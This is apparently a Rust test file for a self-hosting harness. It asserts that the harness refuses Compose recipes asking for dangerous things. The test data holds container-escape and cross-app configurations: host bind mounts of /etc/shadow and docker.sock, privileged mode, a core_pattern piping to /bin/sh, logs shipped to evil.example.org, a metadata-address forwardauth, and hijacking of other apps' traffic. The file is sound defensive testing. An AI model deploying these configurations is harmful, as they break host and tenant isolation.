//! What a recipe may only ask for: each of these is refused before an engine is asked, on a Swarm as on this machine.
//!
//! The harmless twin of them all is the same recipe without the line, which is let through.

use anyhow::{Context as _, Result, ensure};
use harness::recipe::AppState;
use harness::recipe::abra::Form;
use harness::recipe::env::AppEnv;
use harness::recipe::policy::Policy;
use harness::recipe::tree::{Entry, Tree};
use libtest_mimic::Trial;

use crate::Promise::{Declared, OtherApps};
use crate::{Attempt, By, Promise};

/// A recipe that asks for something.
#[derive(Clone, Copy)]
pub struct Asks {
    /// More lines of its only service.
    service: &'static str,
    /// All other sections.
    sections: &'static str,
    abra_sh: &'static str,
    /// What the refusal says.
    said: &'static str,
}

const NOTHING: Asks = Asks { service: "", sections: "networks: {proxy: {external: true}}", abra_sh: "", said: "" };

const fn service(name: &'static str, promise: Promise, service: &'static str, said: &'static str) -> Attempt {
    Attempt { name, promise, by: By::Declared(Asks { service, said, ..NOTHING }) }
}

const fn section(name: &'static str, promise: Promise, sections: &'static str, said: &'static str) -> Attempt {
    Attempt { name, promise, by: By::Declared(Asks { sections, said, ..NOTHING }) }
}

const fn exports(name: &'static str, abra_sh: &'static str, said: &'static str) -> Attempt {
    Attempt { name, promise: OtherApps, by: By::Declared(Asks { abra_sh, said, ..NOTHING }) }
}

const BIND: &str = "a bind mount reads the host's files";
const SHARED: &str = "it shares a part of the host, or of another container";
const GIVEN: &str = "it gives a part of the host to the container";
const NOT_ITS_OWN: &str = "it does not belong to this app";
const MADE: &str = "it would be made under a name that is not the app's";

pub const ATTEMPTS: &[Attempt] = &[
    service("a_file_of_the_host", Declared, "volumes: ['/etc/shadow:/x:ro']", BIND),
    service("the_whole_host", Declared, "volumes: [{type: bind, source: /, target: /host}]", BIND),
    service("the_socket_of_docker", Declared, "volumes: ['/var/run/docker.sock:/s']", BIND),
    section(
        "a_directory_of_the_host_by_a_driver",
        Declared,
        "volumes: {data: {driver_opts: {type: none, o: bind, device: /etc}}}",
        "an option of a driver can mount the host's files",
    ),
    section(
        "a_driver_of_somebody_else",
        Declared,
        "volumes: {data: {driver: evil}}",
        "the driver reaches beyond the app",
    ),
    service("all_privileges", Declared, "privileged: true", SHARED),
    service("the_network_of_the_host", Declared, "network_mode: host", SHARED),
    service("the_processes_of_the_host", Declared, "pid: host", SHARED),
    service("the_shared_memory_of_the_host", Declared, "ipc: host", SHARED),
    service("the_users_of_the_host", Declared, "userns_mode: host", SHARED),
    service("the_control_groups_of_the_host", Declared, "cgroup_parent: /", SHARED),
    service("a_disk_of_the_host", Declared, "devices: ['/dev/sda:/dev/sda']", GIVEN),
    service(
        "the_capability_of_everything",
        Declared,
        "cap_add: [SYS_ADMIN]",
        "a capability reaches beyond the container",
    ),
    service(
        "no_filter_of_system_calls",
        Declared,
        "security_opt: ['seccomp=unconfined']",
        "it weakens the container's confinement",
    ),
    service(
        "a_setting_of_the_whole_kernel",
        Declared,
        "sysctls: ['kernel.core_pattern=|/bin/sh']",
        "the setting may be the whole machine's",
    ),
    service("a_port_of_the_machine", Declared, "ports: ['22:22']", "a published port is the whole machine's"),
    service(
        "logs_to_somewhere_else",
        Declared,
        "logging: {driver: syslog, options: {syslog-address: 'tcp://evil.example.org:514'}}",
        "logs would go elsewhere, where nobody looks",
    ),
    service(
        "more_memory_than_there_is",
        Declared,
        "deploy: {resources: {limits: {memory: 900G}}}",
        "take the machine from all others",
    ),
    service("a_thousand_tasks", Declared, "deploy: {replicas: 1000}", "take the machine from all others"),
    service("an_environment_of_the_host", Declared, "env_file: [/etc/environment]", "env_file"),
    section(
        "a_file_of_the_host_as_a_config",
        Declared,
        "configs: {conf: {file: ../../../etc/passwd}}",
        "configs.conf.file",
    ),
    section(
        "the_data_of_another_app",
        OtherApps,
        "volumes: {data: {external: true, name: victim_example_org_data}}",
        NOT_ITS_OWN,
    ),
    section(
        "the_data_of_another_app_made_anew",
        OtherApps,
        "volumes: {data: {name: victim_example_org_data}}",
        NOT_ITS_OWN,
    ),
    section(
        "the_network_of_another_app",
        OtherApps,
        "networks: {more: {external: true, name: victim_example_org_default}}",
        NOT_ITS_OWN,
    ),
    section(
        "the_network_of_the_host_by_its_name",
        OtherApps,
        "networks: {more: {external: true, name: host}}",
        NOT_ITS_OWN,
    ),
    section(
        "a_secret_of_another_app",
        OtherApps,
        "secrets: {pw: {external: true, name: victim_example_org_pw_v1}}",
        NOT_ITS_OWN,
    ),
    section(
        "a_config_of_another_app",
        OtherApps,
        "configs: {conf: {external: true, name: victim_example_org_conf_v1}}",
        NOT_ITS_OWN,
    ),
    section(
        "a_config_under_another_apps_name",
        OtherApps,
        "configs: {conf: {name: victim_example_org_conf_v1, file: conf}}",
        MADE,
    ),
    service(
        "the_label_of_another_stack",
        OtherApps,
        "labels: {com.docker.stack.namespace: victim_example_org}",
        "nobody knows what acts on this label",
    ),
    service(
        "visitors_of_another_app",
        OtherApps,
        "deploy: {labels: ['traefik.http.routers.${STACK_NAME}.rule=Host(`victim.example.org`)']}",
        "`victim.example.org` is outside of the run's own domain",
    ),
    service(
        "visitors_of_all_apps",
        OtherApps,
        "deploy: {labels: ['traefik.http.routers.${STACK_NAME}.rule=PathPrefix(`/`)']}",
        "the rule takes requests for any host",
    ),
    service(
        "the_dashboard_of_the_proxy",
        OtherApps,
        "deploy: {labels: ['traefik.http.routers.${STACK_NAME}.service=api@internal']}",
        "visitors of the app would meet what is not the app's",
    ),
    service(
        "an_address_of_the_recipes_choice_by_the_proxy",
        OtherApps,
        "deploy: {labels: ['traefik.http.middlewares.${STACK_NAME}.forwardauth.address=http://169.254.169.254/']}",
        "Traefik would ask an address of the recipe's choice",
    ),
    service(
        "a_name_that_others_look_for",
        OtherApps,
        "networks: {proxy: {aliases: [victim.example.org]}}",
        "other apps of that network would look for somebody else by this name, and find this service",
    ),
    exports("the_name_of_another_stack", "export STACK_NAME=victim_example_org\n", "which says which app this is"),
    exports("the_domain_of_another_app", "export DOMAIN=victim.example.org\n", "which says which app this is"),
];

/// Names that are the app's own are let through on the same network.
const OWN_ALIASES: Asks = Asks {
    service: "networks: {proxy: {aliases: [\"${DOMAIN}\", \"${STACK_NAME}_web\"]}, default: {aliases: [db]}}",
    ..NOTHING
};

pub fn trial(name: &str, asks: Asks) -> Trial {
    Trial::test(format!("declared::{name}"), move || check(asks).map_err(|error| format!("{error:#}").into()))
}

fn check(asks: Asks) -> Result<()> {
    for harmless in [NOTHING, OWN_ALIASES] {
        let said = refusal(harmless);
        ensure!(said.is_none(), "the harmless twin is refused: {said:?}");
    }
    let said = refusal(asks).context("OUT: it was let through")?;
    ensure!(said.contains(asks.said), "it was refused with other words: {said}");
    Ok(())
}

/// The compose file of a recipe that asks.
fn compose(asks: Asks) -> String {
    format!("version: \"3.8\"\nservices:\n  app:\n    image: nginx:1.27.4\n    {}\n{}\n", asks.service, asks.sections)
}

/// Why a recipe is refused; `None` when it is not.
fn refusal(asks: Asks) -> Option<String> {
    const DOMAIN: &str = "wiki-3fa9c1.harness.test";
    let files = [("compose.yml", compose(asks)), ("abra.sh", asks.abra_sh.to_owned()), ("conf", "conf".to_owned())];
    let file = |text: String| Entry::File { bytes: text.into_bytes(), executable: false };
    let files = files.into_iter().map(|(path, text)| (path.to_owned(), file(text))).collect();
    let tree = Tree { files, submodules: Vec::new() };
    let read = || {
        let recipe = "wiki".parse()?;
        let env = AppEnv::new(&tree, &recipe, DOMAIN, &Default::default())?;
        AppState::load(&recipe, &tree, DOMAIN, env, &Form::Pinned { version: "1.0.0+1".into() })
    };
    match read() {
        Ok(state) => Policy::default().judge(&state.findings).refusal(),
        Err(error) => Some(format!("{error:#}")),
    }
}
